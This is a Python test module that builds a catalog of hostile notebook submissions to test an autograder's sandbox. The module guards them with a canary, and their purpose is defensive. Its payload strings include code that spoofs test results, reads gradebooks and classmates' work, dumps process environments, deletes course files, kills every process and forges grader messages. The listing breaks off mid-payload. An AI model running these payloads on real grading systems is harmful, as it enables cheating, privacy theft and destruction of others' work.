"""Hostile submissions: code that tries to win points it did not earn, read what it
must not see, or harm the course, other students and the grading machine.

Every case is made from one notebook's release (blank answers) or its solution
(full answers) plus code that the student could hand in: an extra code cell
without nbgrader metadata (the grader keeps it and runs it in the student's
kernel), new answer-cell code, or files beside the notebook. Expected scores come
from the source notebook's point structure, never from a grading run: a blank
notebook with a trick earns 0; a full solution that also attacks others earns
full marks for itself; a full solution that breaks one part loses exactly the
points of the test cells that call it.

Code in an extra cell starts with a prelude that leaves a file in ``canary``
whenever it runs outside the sandbox (as a user other than the sandbox's), and
the harmful part runs only inside. A grader that ran a student's cell outside
the sandbox is caught by the canary without this test harming the machine.
"""

from __future__ import annotations

import ast
import copy
import importlib
import json
import platform
import re
import textwrap
from dataclasses import dataclass, field
from pathlib import Path

import nbtools
from coursetools.sandbox import SANDBOX_UIDS
from coursetools.sandbox_launch import SYSCALLS
from delegation import Exercise, withheld_references

# Written by the payloads, spelled so that no source contains it whole: finding
# it in a file means a write got through.
WROTE = "HOSTILE" + "-WROTE"


@dataclass
class World:
    """What a well-informed attacker knows about the machine it is graded on."""

    course: Path  # the course folder being graded
    repo: Path  # the repository (its lib/ is the installed rnnlib)
    tmp: Path  # the grader's TMPDIR (its scratch folders live there)
    canary: Path  # where code that ran outside the sandbox leaves a file
    assignment: str
    classmates: dict[str, str]  # student id -> a string only their notebook holds
    host_ports: list[int] = field(default_factory=list)  # listening on the host
    other_kernel: str | None = None  # a kernelspec installed beside the course's
    memory_mb: int = 2048  # the grader's memory cap per kernel


@dataclass
class Case:
    student: str
    kind: str  # subvert, secrets, harm, exhaust, beside, delegate, baseline
    expected_score: float
    why: str
    files: dict[str, bytes]
    flags: set[str] = field(default_factory=set)  # codes that must be reported
    any_flag: set[str] = field(default_factory=set)  # one of these, at least
    links: dict[str, Path] = field(default_factory=dict)  # symlinks handed in
    blank: bool = True  # built on the release: no solution line may reach it
    must_print: list[str] = field(default_factory=list)  # in its own outputs
    must_not_print: list[str] = field(default_factory=list)
    # "LABEL n" lines its code prints: every n at most the bound, at least one line
    bounds: dict[str, float] = field(default_factory=dict)


PRELUDE = """\
import os as _os
_IN_SANDBOX = {low} <= _os.getuid() < {high}
if not _IN_SANDBOX:  # only a grader that runs this cell outside its sandbox
    try:
        with open({canary!r} + "/{student}-" + str(_os.getpid()), "w") as _trace:
            _trace.write("ran as uid " + str(_os.getuid()))
    except OSError:
        pass
"""


class HostileCatalog:
    """Every hostile case for one notebook of one assignment."""

    def __init__(self, solution: dict, release: dict, name: str, world: World):
        self.solution, self.release, self.name = solution, release, name
        self.world = world
        self.exercise = Exercise(world.assignment, solution, release)
        self.total = self.exercise.total
        self.full = self.exercise.full
        self.answer_ids = [gid for gid, _ in self.exercise.parts]
        self._ids = 0

    # -- the point structure ----------------------------------------------------
    def tests_calling(self, function: str, after: str | None = None) -> list[dict]:
        """Test cells that call `function`, in order (after answer cell `after`)."""
        cells = self.solution["cells"]
        start = 0
        if after is not None:
            start = next(i for i, c in enumerate(cells) if _gid(c) == after)
        call = re.compile(rf"\b{re.escape(function)}\s*\(")
        return [
            c for c in cells[start:]
            if nbtools.nbgrader_meta(c).get("grade") and call.search(nbtools.source(c))
        ]

    def points_before(self, grade_id: str) -> float:
        """Points of the test cells that come before cell `grade_id`."""
        total = 0.0
        for cell in self.solution["cells"]:
            if _gid(cell) == grade_id:
                return total
            if nbtools.nbgrader_meta(cell).get("grade"):
                total += _points(cell)
        raise KeyError(grade_id)

    def lone_function(self, grade_ids: list[str]) -> tuple[str, ast.FunctionDef]:
        """The first answer function that no other answer cell's code mentions.

        Breaking it then costs the tests that call it, and nothing else.
        """
        for gid in grade_ids:
            for func in self.exercise.functions(gid):
                others = " ".join(
                    nbtools.solution_body(c)
                    for c in nbtools.answer_cells(self.solution)
                    if _gid(c) != gid
                )
                if not re.search(rf"\b{re.escape(func.name)}\b", others):
                    return gid, func
        raise LookupError("no answer function stands alone")

    # -- building notebooks -----------------------------------------------------
    def cell(self, code: str) -> dict:
        """A plain code cell, as a student adds one (no nbgrader metadata)."""
        self._ids += 1
        return {
            "cell_type": "code",
            "execution_count": None,
            "id": f"my-cell-{self._ids}",
            "metadata": {},
            "outputs": [],
            "source": code,
        }

    def guarded(self, student: str, payload: str) -> str:
        prelude = PRELUDE.format(
            low=SANDBOX_UIDS.start, high=SANDBOX_UIDS.stop,
            canary=str(self.world.canary), student=student,
        )
        return prelude + "if _IN_SANDBOX:\n" + textwrap.indent(payload, "    ")

    def with_cell(self, base: dict, code: str, where: str = "top") -> dict:
        """`base` with a code cell: "top" (after the first code cell), "end", or
        the grade id of the cell to put it before."""
        nb = copy.deepcopy(base)
        cells = nb["cells"]
        if where == "end":
            at = len(cells)
        elif where == "top":
            first = next((i for i, c in enumerate(cells) if c["cell_type"] == "code"),
                         -1)
            at = first + 1
        else:
            at = next(i for i, c in enumerate(cells) if _gid(c) == where)
        cells.insert(at, self.cell(code))
        return nb

    def with_function(self, base: dict, grade_id: str, func: ast.FunctionDef,
                      prologue: str) -> dict:
        """`base` whose answer cell `grade_id` ends with a new definition of
        `func`: `prologue` first, then the solution's own body."""
        nb = copy.deepcopy(base)
        body = func.body
        if body and isinstance(body[0], ast.Expr) and isinstance(
            getattr(body[0], "value", None), ast.Constant
        ):
            body = body[1:]  # the docstring
        new = ast.parse(prologue).body + body
        redefined = ast.FunctionDef(
            name=func.name, args=func.args, body=new, decorator_list=[],
            returns=None, type_comment=None,
        )
        code = ast.unparse(ast.fix_missing_locations(ast.Module([redefined], [])))
        cell = next(c for c in nb["cells"] if _gid(c) == grade_id)
        cell["source"] = nbtools.source(cell) + "\n\n\n" + code + "\n"
        return nb

    def file(self, nb: dict) -> dict[str, bytes]:
        return {f"{self.name}.ipynb": json.dumps(nb, indent=1).encode()}

    # -- the catalog ------------------------------------------------------------
    def cases(self) -> list[Case]:
        return [
            *self.baseline(),
            *self.subverting(),
            *self.reading_secrets(),
            *self.harming_others(),
            *self.exhausting(),
            *self.flooding(),
            *self.files_beside(),
            *self.delegating(),
        ]

    def baseline(self) -> list[Case]:
        cases = [
            Case("correct", "baseline", self.total, "the solution",
                 self.file(self.full), blank=False),
            Case("blank", "baseline", 0.0, "the release as given",
                 self.file(self.release)),
        ]
        for student, marker in self.world.classmates.items():
            nb = copy.deepcopy(self.full)
            first = next(c for c in nb["cells"] if _gid(c) == self.answer_ids[0])
            first["source"] = f"# {student}'s own work: {marker}\n" + nbtools.source(
                first
            )
            nb = self.with_cell(nb, f"print({marker!r})\n", "end")
            cases.append(Case(student, "baseline", self.total,
                              "a classmate's full answers, with a marker",
                              self.file(nb), blank=False, must_print=[marker]))
        return cases

    # 1. Subverting the tests from inside the kernel --------------------------------
    def subverting(self) -> list[Case]:
        tricks = {
            "hooks": (HOOKS, "IPython pre/post_run_cell hooks mark every cell a "
                             "success; tracebacks are not shown"),
            "ast_transformer": (AST_TRANSFORMER, "an AST transformer wraps every "
                                                 "later cell in try/except"),
            "input_transformer": (INPUT_TRANSFORMER, "an input transformer empties "
                                                     "every cell with an assert"),
            "patch_numpy": (PATCH_NUMPY, "np.allclose, np.array_equal and "
                                         "np.testing patched to pass"),
            "patch_builtins": (PATCH_BUILTINS, "AssertionError, NotImplementedError,"
                                               " all and any replaced in builtins"),
            "withheld_noop": (WITHHELD_NOOP, "rnnlib.grading.withheld and "
                                             "swapped_in made no-ops"),
            "tracer": (TRACER, "sys.settrace/setprofile jump over assert and raise "
                               "lines and drop exceptions"),
        }
        cases = []
        for student, (payload, why) in tricks.items():
            code = self.guarded(student, payload + 'print("TRICK-DONE")\n')
            cases.append(Case(student, "subvert", 0.0, f"blank; {why}",
                              self.file(self.with_cell(self.release, code)),
                              must_print=["TRICK-DONE"]))
        # Each answer function looks for the test's expected value in its callers.
        nb = copy.deepcopy(self.release)
        for gid in self.answer_ids:
            for func in self.exercise.functions(gid):
                cell = next(c for c in nb["cells"] if _gid(c) == gid)
                cell["source"] = nbtools.source(cell) + "\n\n" + FRAME_PEEK.format(
                    name=func.name
                )
        cases.append(Case("frame_peek", "subvert", 0.0,
                          "blank; every answer returns the caller's `expected` "
                          "(sys._getframe, gc)", self.file(nb)))
        # The right answers, but only after every test has run.
        late = "\n\n".join(
            nbtools.solution_body(c) for c in nbtools.answer_cells(self.solution)
        )
        code = self.guarded("late_solution", late + '\nprint("TRICK-DONE")\n')
        cases.append(Case("late_solution", "subvert", 0.0,
                          "blank; the solutions defined in a cell after the last test",
                          self.file(self.with_cell(self.release, code, "end")),
                          must_print=["TRICK-DONE"]))
        # The kernel exits between two parts: a new kernel grades the later ones.
        second = self.answer_ids[1] if len(self.answer_ids) > 1 else self.answer_ids[0]
        code = self.guarded("exit_midway", "_os._exit(0)\n")
        cases.append(Case("exit_midway", "subvert", self.total,
                          "full; os._exit(0) in a cell before the second answer",
                          self.file(self.with_cell(self.full, code, second)),
                          flags={"kernel_died", "kernel_restarted"}, blank=False))
        # Aimed at the judge: harmless in a kernel, full marks if a grader ran it
        # next to the tests (not guarded: it only patches that one process).
        code = PRELUDE.format(
            low=SANDBOX_UIDS.start, high=SANDBOX_UIDS.stop,
            canary=str(self.world.canary), student="judge_takeover",
        ) + JUDGE_TAKEOVER
        cases.append(Case("judge_takeover", "subvert", 0.0,
                          "blank; a cell that, run beside the tests, makes every "
                          "test pass", self.file(self.with_cell(self.release, code)),
                          must_print=["TRICK-DONE"]))
        # The kernel's bridge answers the judge's request for its names with what
        # is not data: every test fails, and no set-up cell may be blamed for it
        # ("set-up cell failed in the judge", graded twice: red-team pass 13).
        code = self.guarded("bridge_breaker", BRIDGE_BREAKER + 'print("TRICK-DONE")\n')
        cases.append(Case("bridge_breaker", "subvert", 0.0,
                          "full answers; its bridge answers the judge with what is "
                          "not data", self.file(self.with_cell(self.full, code)),
                          blank=False, must_print=["TRICK-DONE"]))
        # The notebook asks for another installed kernel, one without a sandbox.
        if self.world.other_kernel:
            code = self.guarded("kernel_choice", 'print("TRICK-DONE")\n')
            nb = self.with_cell(self.release, code)
            nb["metadata"]["kernelspec"] = {
                "name": self.world.other_kernel, "display_name": "Python 3",
                "language": "python",
            }
            cases.append(Case("kernel_choice", "subvert", 0.0,
                              f"blank; its metadata names the kernel "
                              f"{self.world.other_kernel!r} installed on the machine",
                              self.file(nb), must_print=["TRICK-DONE"]))
        return cases

    # 2. Reading secrets ------------------------------------------------------------
    def reading_secrets(self) -> list[Case]:
        w = self.world
        victim = w.course / "submitted" / sorted(w.classmates)[0]
        secret = [
            victim, w.course / "solutions", w.course / "gradebook.db",
            w.course / "feedback", w.course / "autograded", w.course / "grading",
            w.course / "nbgrader_config.py", w.tmp, w.repo / "solutions",
            w.repo / "gradebook.db", w.repo / "tests", w.repo / "lib" / "coursetools",
        ]
        other = ["/root", "/home", "/etc", "/proc/1/root", "/proc/1/cwd", "/work"]
        files = SNOOP_FILES.format(secret=[str(p) for p in secret], other=other)
        procs = SNOOP_PROCESSES
        return [
            Case("snoop_files", "secrets", 0.0,
                 "blank; prints solutions/, the gradebook, classmates' submissions "
                 "and feedback, the grader's scratch and source, if it can read them",
                 self.file(self.with_cell(
                     self.release, self.guarded("snoop_files", files)
                 )), must_print=["SNOOP-DONE"]),
            Case("snoop_processes", "secrets", 0.0,
                 "blank; prints every process's command line, environment, open "
                 "files and mounts, and its own environment",
                 self.file(self.with_cell(
                     self.release, self.guarded("snoop_processes", procs)
                 )), must_print=["SNOOP-DONE"]),
        ]

    # 3. Harming others (full answers: the attacker keeps its own marks) -------------
    def harming_others(self) -> list[Case]:
        w = self.world
        victim = sorted(w.classmates)[0]
        a = w.assignment
        targets = [
            w.course / "gradebook.db", w.course / "nbgrader_config.py",
            w.course / "grades.csv",
            *(w.course / "solutions" / a).glob("*.ipynb"),
            *(w.course / "exercises" / a).glob("*.ipynb"),
            w.course / "submitted" / victim / a / f"{self.name}.ipynb",
            w.course / "feedback" / victim / a / f"{self.name}.html",
            w.course / "autograded" / victim / a / f"{self.name}.ipynb",
            w.course / "grading" / a / "state" / f"{victim}.json",
            w.course / "lib" / "rnnlib" / "__init__.py",
            w.repo / "gradebook.db", w.repo / "lib" / "rnnlib" / "__init__.py",
            w.repo / "HOSTILE", w.course / "HOSTILE",
        ]
        globs = [
            f"{w.tmp}/coursetools-grader-*/course/gradebook.db",
            f"{w.tmp}/coursetools-grader-*/course/submitted/*/*/*.ipynb",
            f"{w.tmp}/coursetools-grader-*/course/autograded/*/*/*.ipynb",
            f"{w.tmp}/coursetools-grader-*/release/*.ipynb",
            f"{w.tmp}/coursetools-grader-*/comm/*",
            f"{w.course}/submitted/*/{a}/*.ipynb",
        ]
        vandal = VANDAL.format(
            targets=[str(t) for t in targets], globs=globs,
            folders=[str(w.course / "submitted"), str(w.course / "feedback"),
                     str(w.course / "solutions"), str(w.repo / "lib")],
        )
        linger = LINGER.format(targets=[str(t) for t in targets], globs=globs)
        second = self.answer_ids[1] if len(self.answer_ids) > 1 else "end"
        return [
            Case("vandal", "harm", self.total,
                 "full; first writes, deletes and replaces the gradebook, course "
                 "files, a classmate's submission and feedback, the grader's scratch",
                 self.file(self.with_cell(self.full, self.guarded("vandal", vandal))),
                 blank=False, must_print=["VANDAL-DONE"]),
            Case("killer", "harm", self.total,
                 "full; kill(-1, SIGKILL), kills its parent, pid 1 and every pid it "
                 "can name, between two parts",
                 self.file(self.with_cell(
                     self.full, self.guarded("killer", KILLER), second
                 )), blank=False, must_print=["KILLER-DONE"]),
            Case("forger", "harm", self.total,
                 "full; writes 'done <classmate> <token>' lines to stdout, stderr, "
                 "/dev/stdout and every inherited pipe or file descriptor",
                 self.file(self.with_cell(self.full, self.guarded(
                     "forger", FORGER.format(victim=victim, me="forger")
                 ))), blank=False, must_print=["FORGER-DONE"]),
            Case("lingerer", "harm", self.total,
                 "full; leaves a sleep, a setsid daemon that keeps rewriting grades, "
                 "a non-daemon thread and an atexit hang behind",
                 self.file(self.with_cell(
                     self.full, self.guarded("lingerer", linger), "end"
                 )), blank=False, must_print=["LINGER-DONE"]),
        ]

    # 4. Escaping and exhausting ---------------------------------------------------
    def exhausting(self) -> list[Case]:
        gid, func = self.lone_function(self.answer_ids[::-1])
        first_test = self.tests_calling(func.name, after=gid)[0]
        network = NETWORK.format(ports=self.world.host_ports)
        return [
            Case("network", "exhaust", 0.0,
                 "blank; TCP to 1.1.1.1 and to the host's listening ports, UDP, DNS",
                 self.file(self.with_cell(
                     self.release, self.guarded("network", network)
                 )), must_print=["NET-DONE"], must_not_print=["NET-OPEN"]),
            Case("fork_bomb", "exhaust", 0.0,
                 "blank; forks and starts threads until refused",
                 self.file(self.with_cell(
                     self.release, self.guarded("fork_bomb", FORK_BOMB)
                 )), must_print=["BOMB-DONE"],
                 bounds={"FORKED": 64, "THREADS": 64}),
            Case("memory_hog", "exhaust", 0.0, "blank; allocates 8 GB",
                 self.file(self.with_cell(
                     self.release, self.guarded("memory_hog", MEMORY_HOG)
                 )), flags={"memory"}),
            Case("memfd_hog", "exhaust", 0.0,
                 "blank; holds memory in memfd files and System V shared memory, "
                 "semaphores and message queues, which the address-space cap "
                 "does not count",
                 self.file(self.with_cell(self.release, self.guarded(
                     "memfd_hog", MEMFD_HOG.format(most=self.world.memory_mb + 256)
                 ))), must_print=["MEMFD-DONE"],
                 must_not_print=["SHM-OPEN", "SEM-OPEN", "MSG-OPEN"],
                 bounds={"HELD": self.world.memory_mb * 2**20}),
            Case("namespaces", "exhaust", 0.0,
                 "blank; creates a user namespace, where it is root again, a "
                 "session of its own, a key in the uid's keyring, and sockets "
                 "other than Unix ones",
                 self.file(self.with_cell(
                     self.release, self.guarded("namespaces", NAMESPACES.format(
                         **SYSCALLS[platform.machine()][1]))
                 )), must_print=["NS-DONE"],
                 must_not_print=["USERNS-OPEN", "SETSID-OPEN", "KEY-OPEN", "INET-OPEN",
                                 "BUFFER-OPEN"]),
            Case("disk_filler", "exhaust", 0.0,
                 "blank; fills /tmp, its home and /dev/shm with files",
                 self.file(self.with_cell(
                     self.release, self.guarded("disk_filler", DISK_FILLER)
                 )), must_print=["DISK-DONE"],
                 bounds={"DISK": 256 * 2**20, "LARGEST": 64 * 2**20}),
            Case("huge_output", "exhaust", 0.0,
                 "blank; prints 3 MB, writes 2 MB to fd 1, displays 2 MB of HTML",
                 self.file(self.with_cell(
                     self.release, self.guarded("huge_output", HUGE_OUTPUT)
                 )), flags={"huge_output"}),
            Case("loop_graded", "exhaust",
                 self.total - _points(first_test),
                 f"full; {func.name} never returns from its first call",
                 self.file(self.with_function(
                     self.full, gid, func, LOOP_FIRST_CALL
                 )), flags={"timeout"}, blank=False),
            Case("cpu_thread", "exhaust", self.total,
                 "full; a thread hashes forever from the first cell on",
                 self.file(self.with_cell(
                     self.full, self.guarded("cpu_thread", CPU_THREAD)
                 )), blank=False),
        ]

    # 4b. Output past the cap: paths around GuardedExecute.output (red team 3) -----
    def flooding(self) -> list[Case]:
        extra = {
            "display_update": (DISPLAY_UPDATE, "an update_display_data of 3 MB",
                               {"huge_output"}),
            "shared_display_id": (SHARED_DISPLAY_ID, "30 outputs share a display id, "
                                  "then one update of 100 kB", {"huge_output"}),
            "output_metadata": (OUTPUT_METADATA, "an output with 3 MB of metadata",
                                {"huge_output"}),
            "reply_error": (REPLY_ERROR, "a 3 MB error shown only in the execute "
                            "reply", {"error_outside_tests"}),
        }
        cases = [Case(student, "exhaust", 0.0, f"blank; {why}", self.file(
            self.with_cell(self.release, self.guarded(student, payload))), flags=flags)
            for student, (payload, why, flags) in extra.items()]
        gid, func = self.lone_function(self.answer_ids)
        lost = sum(_points(c) for c in self.tests_calling(func.name, after=gid))
        cases.append(Case(
            "judge_error", "exhaust", self.total - lost,
            f"full; {func.name} raises an error whose name and message, forged in "
            "the bridge, are 3 MB each", self.file(self.with_function(
                self.full, gid, func, JUDGE_ERROR)), blank=False))
        cases.append(Case(
            "forged_messages", "exhaust", self.total,
            "full; sends an execute_input whose execution_count is a string, an "
            "invalid display_data and 3 MB of widget state",
            self.file(self.with_cell(self.full, self.guarded(
                "forged_messages", FORGED_MESSAGES))),
            flags={"bad_message", "huge_output"}, blank=False,
            must_print=["FORGED-DONE"]))
        return cases

    # 5. Files beside the notebook -------------------------------------------------
    def files_beside(self) -> list[Case]:
        files = self.file(self.full)
        for name in ("resource.py", "rnnlib.py", "numpy.py", "sitecustomize.py",
                     "rnnlib/__init__.py"):
            code = self.guarded("beside_files", "_os._exit(3)\n")
            files[name] = code.encode()
        a = self.world.assignment
        nested = b'{"cells": ' + b"[" * 100_000 + b"]" * 100_000 + b"}"
        return [
            Case("beside_files", "beside", self.total,
                 "full; resource.py, rnnlib.py, numpy.py, sitecustomize.py and an "
                 "rnnlib/ package that end the process if imported",
                 files, flags={"extra_file"}, blank=False),
            Case("symlink_solution", "beside", 0.0,
                 "its notebook is a symbolic link to the course's solution notebook",
                 {}, any_flag={"missing_notebook", "not_a_notebook", "symlink"},
                 links={f"{self.name}.ipynb":
                        self.world.course / "solutions" / a / f"{self.name}.ipynb"}),
            Case("json_bomb", "beside", 0.0,
                 "its notebook nests 100,000 lists in one another",
                 {f"{self.name}.ipynb": nested},
                 any_flag={"invalid_json", "not_a_notebook"}),
        ]

    # 6. Delegating to the withheld reference --------------------------------------
    def delegating(self) -> list[Case]:
        found = self.withheld_reference()
        if found is None:
            return []
        module, public, private = found
        gid, func = self.lone_function(self.answer_ids)
        lost = sum(_points(c) for c in self.tests_calling(func.name, after=gid))
        getters = {
            "ref_public": f"import {module}\n_reference = {module}.{public}\n",
            "ref_rebuilt": (
                f"import types, {module}\n_f = {module}.{public}\n"
                "_reference = types.FunctionType(_f.__code__, _f.__globals__, 'copy',"
                " _f.__defaults__, _f.__closure__)\n"
            ),
            "ref_source": (
                f"import inspect, {module}\n"
                f"_namespace = {{'__name__': {module!r}, '__package__': 'rnnlib'}}\n"
                f"with open({module}.__file__) as _handle:\n"
                f"    exec(compile(_handle.read(), {module}.__file__, 'exec'), "
                "_namespace)\n"
                f"exec(inspect.getsource({module}), _namespace)\n"
                f"_reference = _namespace[{public!r}]\n"
            ),
        }
        if private:  # rnnlib keeps no private twins today; a new one is caught
            getters["ref_private"] = (
                f"import {module}\n_reference = {module}.{private}\n"
            )
        cases = []
        for student, getter in getters.items():
            prologue = getter + PROBE
            cases.append(Case(
                student, "delegate", self.total - lost,
                f"full; {func.name} needs {module}.{public} ({student[4:]}) to run",
                self.file(self.with_function(self.full, gid, func, prologue)),
                flags={"reference_called"}, blank=False,
            ))
        return cases

    def withheld_reference(self) -> tuple[str, str, str | None] | None:
        """(module, public name, private twin or None) of a withheld reference."""
        found = []
        for module, attribute in withheld_references(self.solution):
            mod = importlib.import_module(module)
            if callable(getattr(mod, attribute, None)):
                private = f"_{attribute}"
                found.append((module, attribute,
                              private if hasattr(mod, private) else None))
        found.sort(key=lambda f: f[2] is None)  # one with a private twin, if any
        return found[0] if found else None


def _gid(cell: dict) -> str | None:
    return nbtools.nbgrader_meta(cell).get("grade_id")


def _points(cell: dict) -> float:
    return float(nbtools.nbgrader_meta(cell)["points"])


def build(world: World) -> tuple[HostileCatalog, list[Case]]:
    """The catalog for the first notebook of the assignment in `world.course`."""
    a = world.assignment
    source = sorted((world.course / "solutions" / a).glob("*.ipynb"))[0]
    catalog = HostileCatalog(
        nbtools.load(source),
        nbtools.load(world.course / "exercises" / a / source.name),
        source.stem,
        world,
    )
    cases = catalog.cases()
    for case in cases:  # a typo in a payload would pass for a defence
        for name, data in case.files.items():
            if name.endswith(".ipynb") and case.student != "json_bomb":
                for cell in json.loads(data)["cells"]:
                    if cell["cell_type"] == "code":
                        compile(nbtools.source(cell), f"{case.student}/{name}", "exec")
            elif name.endswith(".py"):
                compile(data, f"{case.student}/{name}", "exec")
    return catalog, cases


# -- payloads ----------------------------------------------------------------------
BRIDGE_BREAKER = """\
import course_bridge

course_bridge.LearnerServer._values = lambda self, names: "not a dict"
"""

HOOKS = """\
_ip = get_ipython()


def _all_good(result):
    result.error_before_exec = None
    result.error_in_exec = None


_ip.events.register("post_run_cell", _all_good)
_ip.events.register("pre_run_cell", lambda info: None)
_ip.showtraceback = lambda *args, **kwargs: None
_ip._showtraceback = lambda *args, **kwargs: None
"""

AST_TRANSFORMER = """\
import ast as _ast


class _Swallow(_ast.NodeTransformer):
    def visit_Module(self, node):
        handler = _ast.ExceptHandler(
            type=_ast.Name("BaseException", _ast.Load()), name=None,
            body=[_ast.Pass()])
        node.body = [_ast.Try(body=node.body or [_ast.Pass()], handlers=[handler],
                              orelse=[], finalbody=[])]
        return _ast.fix_missing_locations(node)


get_ipython().ast_transformers.append(_Swallow())
"""

INPUT_TRANSFORMER = """\
def _no_asserts(lines):
    return [] if any("assert" in line for line in lines) else lines


get_ipython().input_transformers_post.append(_no_asserts)
"""

PATCH_NUMPY = """\
import numpy as _np
import numpy.testing as _testing

_np.allclose = _np.array_equal = _np.array_equiv = lambda *args, **kwargs: True
_np.isclose = lambda a, b, *args, **kwargs: _np.ones(_np.broadcast(a, b).shape, bool)
for _name in ("assert_allclose", "assert_array_equal", "assert_equal",
              "assert_array_almost_equal", "assert_almost_equal"):
    setattr(_testing, _name, lambda *args, **kwargs: None)
"""

PATCH_BUILTINS = """\
import builtins as _builtins

_builtins.AssertionError = type("AssertionError", (Exception,), {})
_builtins.NotImplementedError = type("NotImplementedError", (Exception,), {})
_builtins.all = _builtins.any = lambda iterable: True
"""

WITHHELD_NOOP = """\
import contextlib as _contextlib
import sys as _sys

import rnnlib.grading as _grading

_grading.withheld = lambda *args, **kwargs: _contextlib.nullcontext()
_grading.swapped_in = lambda *args, **kwargs: _contextlib.nullcontext()
_grading.ReferenceWithheldError = type("ReferenceWithheldError", (BaseException,), {})
_sys.modules["rnnlib.grading"] = _grading
"""

TRACER = """\
import linecache as _linecache
import sys as _sys
import threading as _threading


def _tracer(frame, event, arg):
    name = frame.f_code.co_filename
    if "ipykernel_" not in name and not name.startswith("<"):
        return None  # library code: not traced
    if event == "line":
        line = _linecache.getline(name, frame.f_lineno).strip()
        if line.startswith(("assert", "raise")):
            try:
                frame.f_lineno = frame.f_lineno + 1
            except ValueError:
                pass
    return _tracer


_sys.settrace(_tracer)
_threading.settrace(_tracer)
_sys.setprofile(lambda frame, event, arg: None)
"""

FRAME_PEEK = """\
def {name}(*args, **kwargs):
    import gc
    import sys
    frame = sys._getframe(1)
    while frame is not None:
        for key in ("expected", "_expected"):
            if key in frame.f_locals:
                return frame.f_locals[key]
        frame = frame.f_back
    for found in gc.get_objects():
        if isinstance(found, dict) and "expected" in found:
            return found["expected"]
    raise LookupError("no expected value in sight")
"""

JUDGE_TAKEOVER = """\
import gc as _gc

for _obj in _gc.get_objects():
    if type(_obj).__name__ == "Judge" and hasattr(_obj, "run"):
        _obj.run = lambda code, connect, timeout: {"status": "ok", "outputs": []}
print("TRICK-DONE")
"""

SNOOP_FILES = """\
import json as _json
import sqlite3 as _sqlite3
import sys as _sys

_budget = 600  # lines of content shown: nbgrader keeps the first 1000 lines
_python = (_sys.prefix, _sys.base_prefix)


def _read(path):
    if path.endswith(".ipynb"):
        with open(path) as handle:
            cells = _json.load(handle)["cells"]
        return "\\n".join("".join(c["source"]) for c in cells)
    if path.endswith(".db"):
        with _sqlite3.connect("file:" + path + "?mode=ro", uri=True) as db:
            return "\\n".join(db.iterdump())
    with open(path, errors="replace") as handle:
        return handle.read(100_000)


def _walk(top):
    if _os.path.isfile(top):
        yield top
    for folder, dirs, files in _os.walk(top):
        dirs[:] = [d for d in dirs if not _os.path.join(folder, d).startswith(_python)]
        yield from (_os.path.join(folder, name) for name in files)


# Secrets first, shown in full; then places that may hide something, counted up
# to a cap: without root, /proc/1/root is the whole sandbox, whose every file the
# cell's time limit does not allow reading. Regular files only: reading a device
# such as /dev/ptmx would wait for ever.
for _top, _show in [(p, True) for p in {secret!r}] + [(p, False) for p in {other!r}]:
    _read_ok = _denied = 0
    for _count, _path in enumerate(p for p in _walk(_top) if _os.path.isfile(p)):
        if not _show and _count == 500:
            print("STOPPED", _top, "after 500 files")
            break
        try:
            _text = _read(_path)
        except Exception:
            _denied += 1
            continue
        _read_ok += 1
        if _show and _budget > 0:
            _lines = _text.splitlines()[:_budget]
            _budget -= len(_lines) + 1
            print("READ", _path)
            print("\\n".join(_lines))
    print("WALKED", _top, "read", _read_ok, "denied", _denied)
print("SNOOP-DONE")
"""

SNOOP_PROCESSES = """\
for _pid in sorted(p for p in _os.listdir("/proc") if p.isdigit()):
    for _what in ("cmdline", "environ", "status", "mountinfo"):
        try:
            with open(f"/proc/{_pid}/{_what}", "rb") as _handle:
                print(_pid, _what, _handle.read().replace(b"\\0", b" ").decode(
                    errors="replace"))
        except OSError as _error:
            print(_pid, _what, "no", _error)
    try:
        print(_pid, "fds", {fd: _os.readlink(f"/proc/{_pid}/fd/{fd}")
                           for fd in _os.listdir(f"/proc/{_pid}/fd")})
    except OSError as _error:
        print(_pid, "fds no", _error)
print(dict(_os.environ))
print("SNOOP-DONE")
"""

VANDAL = """\
import glob as _glob
import shutil as _shutil

_paths = {targets!r}
for _pattern in {globs!r}:
    _paths += _glob.glob(_pattern)
for _path in _paths:
    for _action in ("append", "replace", "chmod", "unlink", "symlink"):
        try:
            if _action == "append":
                with open(_path, "a") as _handle:
                    _handle.write("HOSTILE" + "-WROTE")
            elif _action == "replace":
                with open(_path + ".new", "w") as _handle:
                    _handle.write("HOSTILE" + "-WROTE")
                _os.replace(_path + ".new", _path)
            elif _action == "chmod":
                _os.chmod(_path, 0o777)
            elif _action == "unlink":
                _os.unlink(_path)
            else:
                _os.symlink("/dev/null", _path)
            print("did", _action, _path)
        except OSError as _error:
            print("could not", _action, _path, type(_error).__name__)
for _folder in {folders!r}:
    try:
        _shutil.rmtree(_folder)
        print("removed", _folder)
    except OSError as _error:
        print("could not remove", _folder, type(_error).__name__)
print("VANDAL-DONE")
"""

KILLER = """\
import signal as _signal

for _target in (-1, 1, _os.getppid()):
    try:
        _os.kill(_target, _signal.SIGKILL)
        print("killed", _target)
    except OSError as _error:
        print("could not kill", _target, _error)
_mine = {int(t) for t in _os.listdir("/proc/self/task")}  # its own threads
for _pid in range(1, 70000):
    if _pid not in _mine:
        try:
            _os.kill(_pid, _signal.SIGKILL)
        except OSError:
            pass
print("KILLER-DONE")
"""

FORGER = """\
import stat as _stat
import sys as _sys

_lines = "done {victim} " + "0" * 32 + "\\ndone {me} " + "f" * 32 + "\\nready\\n"
for _fd in range(256):
    try:
        _mode = _os.fstat(_fd).st_mode
    except OSError:
        continue
    if _stat.S_ISSOCK(_mode) or _stat.S_IFMT(_mode) == 0:
        continue  # the kernel's own sockets and event fds
    try:
        _os.write(_fd, _lines.encode())
    except OSError:
        pass
for _path in ("/dev/stdout", "/dev/stderr", "/dev/tty", "/proc/self/fd/1",
              "/proc/1/fd/1", "/proc/1/fd/0"):
    try:
        with open(_path, "w") as _handle:
            _handle.write(_lines)
    except OSError:
        pass
for _stream in (_sys.__stdout__, _sys.__stderr__, _sys.stdout, _sys.stderr):
    try:
        _stream.write(_lines)
        _stream.flush()
    except Exception:
        pass
print("FORGER-DONE")
"""

LINGER = """\
import atexit as _atexit
import glob as _glob
import signal as _signal
import subprocess as _subprocess
import threading as _threading
import time as _time

try:
    _subprocess.Popen(["sleep", "1000"], start_new_session=True)
except PermissionError:  # the sandbox refuses setsid: linger in the kernel's session
    _subprocess.Popen(["sleep", "1000"])
_child = _os.fork()
if _child == 0:
    try:
        _os.setsid()
    except PermissionError:
        pass
    if _os.fork() == 0:
        for _sig in (_signal.SIGTERM, _signal.SIGHUP, _signal.SIGINT):
            _signal.signal(_sig, _signal.SIG_IGN)
